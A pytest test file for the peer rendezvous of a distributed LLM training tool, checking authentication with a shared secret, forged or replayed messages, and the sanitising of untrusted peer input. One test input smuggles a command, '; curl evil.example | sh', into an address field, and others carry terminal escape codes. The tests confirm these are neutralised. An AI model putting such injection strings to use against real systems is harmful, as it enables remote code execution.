"""Ranks find each other on this machine; who is missing, unknown or unreachable is named on all."""

from __future__ import annotations

import json
import socket

import pytest
import torch.distributed as dist

from p2p_llm_forge.config import TrainConfig
from p2p_llm_forge.errors import ForgeError
from p2p_llm_forge.peers import addresses, reach
from p2p_llm_forge.peers import rendezvous as module
from p2p_llm_forge.peers.findings import Finding
from p2p_llm_forge.peers.launch import Launch
from p2p_llm_forge.peers.liveness import Liveness
from p2p_llm_forge.peers.rendezvous import Endpoint, choose_endpoint, rendezvous
from p2p_llm_forge.peers.store import Store
from p2p_llm_forge.polling import wait_for
from tests.memory_channel import run_ranks
from tests.ports import free_port


def endpoints(count, timeout_s=30.0, own_address=None, secrets=None):
    port = free_port()
    return [
        Endpoint(
            rank=rank,
            world_size=count,
            local_world_size=1,
            main_address="127.0.0.1",
            main_port=port,
            serves_store=rank == 0,
            own_address=own_address,
            timeout_s=timeout_s,
            secret=secrets[rank] if secrets else None,
        )
        for rank in range(count)
    ]


def refusal_of(endpoint):
    with pytest.raises(ForgeError) as refusal:
        rendezvous(endpoint)
    assert all(isinstance(problem, Finding) for problem in refusal.value.problems)
    return refusal.value


@pytest.mark.parametrize("secret", [None, b"a long common secret"], ids=["open", "secret"])
def test_ranks_that_come_get_one_store(secret):
    def act(endpoint):
        store = rendezvous(endpoint)
        store.set(f"from/{endpoint.rank}", str(endpoint.rank))
        keys = [f"from/{rank}" for rank in range(3)]
        assert wait_for(lambda: store.check(*keys), 60)
        return store, store.get_all(keys, range(3))

    ranks = endpoints(3, own_address="127.0.0.1", secrets=[secret] * 3)
    for _, values in run_ranks(ranks, act):
        assert values == ["0", "1", "2"]


def test_a_missing_rank_is_named_by_those_who_came():
    first, second, _ = endpoints(3, timeout_s=1.0)
    for refusal in run_ranks([first, second], refusal_of):
        (finding,) = refusal.problems
        assert "rank 2 did not come to 127.0.0.1" in finding.found
        assert "2 of 3 are here" in finding.found and "start machine 2 too" in finding.fix


@pytest.mark.parametrize(
    ("third", "expected"),
    [(None, "did not bring the cluster's secret"), (b"some other secret", "could not prove to")],
    ids=["none", "another"],
)
def test_a_rank_without_the_secret_is_named_and_gets_no_store(third, expected):
    ours = b"a long common secret"
    refusals = run_ranks(endpoints(3, secrets=[ours, ours, third]), refusal_of)
    for refusal in refusals[:2]:
        (finding,) = refusal.problems
        assert finding.found.startswith("rank 2 (") and expected in finding.found
        assert "--cluster-secret-file" in finding.fix


def test_a_closed_door_ends_the_rendezvous_on_all(monkeypatch):
    monkeypatch.setattr(reach, "try_door", lambda *door: (addresses.FILTERED, 0))
    for refusal in run_ranks(endpoints(2, own_address="127.0.0.1"), refusal_of):
        assert [finding.topic for finding in refusal.problems] == ["reach", "reach"]
        assert "known on its own machine only" in refusal.problems[0].found


STRANGE = [
    *("[]", "no json", "{}", '[{"found": "x"}]', "[1]", "[" * 100_000, '["\\ud800"]'),
    '[{"found": "x", "fix": "y", "where": "", "level": "odd", "topic": "z"}]',
    '[{"found": "x", "fix": "", "where": "", "level": "failure", "topic": "z"}]',
    '[{"found": "x", "fix": ["y"], "where": "", "level": "failure", "topic": "z"}]',
]


@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
def test_what_strangers_write_as_a_verdict_is_one_message(text):
    assert "another rank has ended the rendezvous" in str(module._verdict(text))


def test_a_verdict_is_quoted_and_bounded():
    sent = {"found": "x\n\x1b[1mrun this\u202e" * 1000, "fix": "y\n  fix: z", "where": "a\nb"}
    message = str(module._verdict(json.dumps([{**sent, "level": "failure", "topic": "t"}])))
    first, second = message.splitlines()
    assert first.startswith('another rank: "x run thisx run this') and len(first) < 900
    assert second == '  fix: "y fix: z"' and "\x1b" not in message and "\u202e" not in message


@pytest.mark.parametrize(
    "sent",
    [
        *({}, {"port": 99999, "address": "10.0.0.1; curl evil.example | sh"}, {"port": True}),
        *({"port": "x", "address": "fe80::1%a;b"}, {"port": -1, "address": "a" * 300 + "."}),
    ],
    ids=range(5),
)
def test_a_hello_of_a_stranger_becomes_no_part_of_a_command(sent):
    hello = reach.readable(sent)
    assert hello["address"] is None and hello["port"] == 0
    hellos = [{"host": "anna", "address": None}, {"host": "berta", **hello}]
    assert "evil" not in str(reach._closed(hellos, 0, 1, addresses.FILTERED))


def test_facts_of_strangers_are_no_facts():
    store, first = Store(dist.HashStore(), 0, timeout_s=60), endpoints(2)[0]
    store.set("forge/rendezvous/hello/1", "[1, 2]")
    peers = Liveness(store, 0, 2, timeout_s=60)
    said = module._gather(first, peers, "hello", '{"host": "anna"}')
    assert [module._dict(text) for text in said] == [{"host": "anna"}, {}]


def test_a_man_who_changes_what_a_rank_says_is_noticed_by_all():
    """He writes while two wait for the third, so that all read his word but the one it is of."""
    *waiting, last = endpoints(3, own_address="127.0.0.1", secrets=[b"a long common secret"] * 3)

    def forge():
        store = dist.TCPStore("127.0.0.1", last.main_port, is_master=False)
        key = "forge/rendezvous/hello/1"
        hello = json.loads(store.get(key))  # waits for it
        store.set(key, json.dumps({**hello, "port": hello["port"] + 1}))

    def act(endpoint):
        if endpoint is last:
            forge()
        return refusal_of(endpoint)

    found = [str(refusal) for refusal in run_ranks([*waiting, last], act)]
    assert all("could not prove to rank" in text for text in found)
    assert "rank 1 (" in found[0] and "rank 1 (" in found[2] and "rank 0 (" in found[1]
    assert all("somebody changes what the peers send" in text for text in found)


def test_a_verdict_that_nobody_with_the_secret_has_signed_does_not_count():
    first, second = endpoints(2, secrets=[b"a long common secret"] * 2)
    store = Store(dist.HashStore(), 0, timeout_s=60)
    store.set("forge/rendezvous/hello/1", json.dumps({"nonce": second.nonce}))
    forged = json.dumps([{"topic": "x", "level": "failed", "found": "go away", "fix": "run me"}])
    store.set("forge/rendezvous/verdict/1", forged)
    assert module._published(second, store) is None
    module._tell(first, store, "the disk is full")
    assert module._published(second, store) == "the disk is full"


def test_a_verdict_of_an_earlier_rendezvous_does_not_end_this_one():
    """A stranger kept all that the store of a failed launch held, and writes it again."""
    secrets = [b"a long common secret"] * 3
    earlier, kept = endpoints(3, timeout_s=1.0, secrets=secrets), {}

    def listen():
        store = dist.TCPStore("127.0.0.1", earlier[0].main_port, is_master=False)
        for key in ("forge/rendezvous/verdict/1", "forge/rendezvous/left/1"):
            kept[key] = store.get(key).decode()  # waits for it

    def fail(endpoint):
        return listen() if endpoint is earlier[2] else refusal_of(endpoint)

    run_ranks(earlier, fail)
    assert kept["forge/rendezvous/verdict/1"].endswith(module.MISSING)
    *waiting, last = endpoints(3, own_address="127.0.0.1", secrets=secrets)

    def act(endpoint):
        if endpoint is last:
            store = dist.TCPStore("127.0.0.1", last.main_port, is_master=False)
            store.get("forge/rendezvous/hello/1")
            store.set("forge/rendezvous/verdict/0", kept["forge/rendezvous/verdict/1"])
            for key, value in kept.items():
                store.set(key, value)
            assert module._published(waiting[1], Store(store, 2, timeout_s=60)) is None
        return rendezvous(endpoint)

    assert len(run_ranks([*waiting, last], act)) == 3


def test_many_names_are_cut_short():
    assert module._listing(["a"]) == "a"
    assert module._listing(["a", "b", "c"]) == "a, b and c"
    assert module._listing([str(n) for n in range(20)]).endswith("6, 7 and 12 more")


def test_a_port_of_another_program_is_refused():
    with socket.create_server(("127.0.0.1", 0)) as taken:
        endpoint = endpoints(2)[0]
        object.__setattr__(endpoint, "main_port", taken.getsockname()[1])
        (finding,) = refusal_of(endpoint).problems
    assert f"port {endpoint.main_port} is taken" in finding.found


def test_a_process_alone_needs_no_rendezvous():
    assert choose_endpoint(TrainConfig(), Launch(), {}) is None


def test_processes_of_one_machine_meet_at_its_loopback():
    launch = Launch(rank=1, world_size=2, local_rank=1, local_world_size=2)
    endpoint = choose_endpoint(TrainConfig(rendezvous_timeout=7.0), launch, {})
    assert (endpoint.main, endpoint.own_address) == ("127.0.0.1:29500", None)
    assert endpoint.timeout_s == 7.0 and not endpoint.serves_store


def test_an_elastic_launch_gives_slow_machines_the_time_to_come():
    def timeout_s(**settings):
        launch = Launch(world_size=2, local_world_size=2, is_elastic=True)
        return choose_endpoint(TrainConfig(**settings), launch, {}).timeout_s

    assert timeout_s() == 300.0 and timeout_s(peer_timeout=200.0) == 600.0
    assert timeout_s(rendezvous_timeout=7.0) == 7.0


def test_only_rank_0_serves_and_only_where_the_launcher_does_not():
    def serves(**launch):
        both = Launch(world_size=2, local_world_size=2, **launch)
        return choose_endpoint(TrainConfig(), both, {}).serves_store

    assert serves() and not serves(rank=1) and not serves(serves_store=True)


def test_a_public_main_address_is_refused_unless_it_is_allowed():
    launch = Launch(rank=1, world_size=2, master_addr="8.8.8.8", master_port=29500)
    with pytest.raises(ForgeError, match=r"8\.8\.8\.8 is a public address"):
        choose_endpoint(TrainConfig(), launch, {})
    endpoint = choose_endpoint(TrainConfig(allow_public_address=True), launch, {})
    assert endpoint.main == "8.8.8.8:29500"
    chosen = choose_endpoint(
        TrainConfig(allow_public_address=True), launch, {"GLOO_SOCKET_IFNAME": "lo"}
    )
    assert chosen.own_address == "127.0.0.1"


def test_torchruns_elastic_launch_is_refused_where_others_reach_it():
    facts = {"world_size": 2, "is_elastic": True}
    outward = Launch(**facts, by_torchrun=True, master_addr="10.0.0.1", gloo_interface="lo")
    with pytest.raises(ForgeError, match="can run programs as you") as raised:
        choose_endpoint(TrainConfig(), outward, {})
    assert "launch/elastic.py --main ADDRESS" in raised.value.problems[0].fix
    assert choose_endpoint(TrainConfig(allow_unauthenticated=True), outward, {})
    here = Launch(**facts, by_torchrun=True, master_addr="127.0.0.1")
    assert choose_endpoint(TrainConfig(), here, {})
    ours = Launch(**facts, master_addr="10.0.0.1", gloo_interface="lo")
    assert choose_endpoint(TrainConfig(), ours, {})
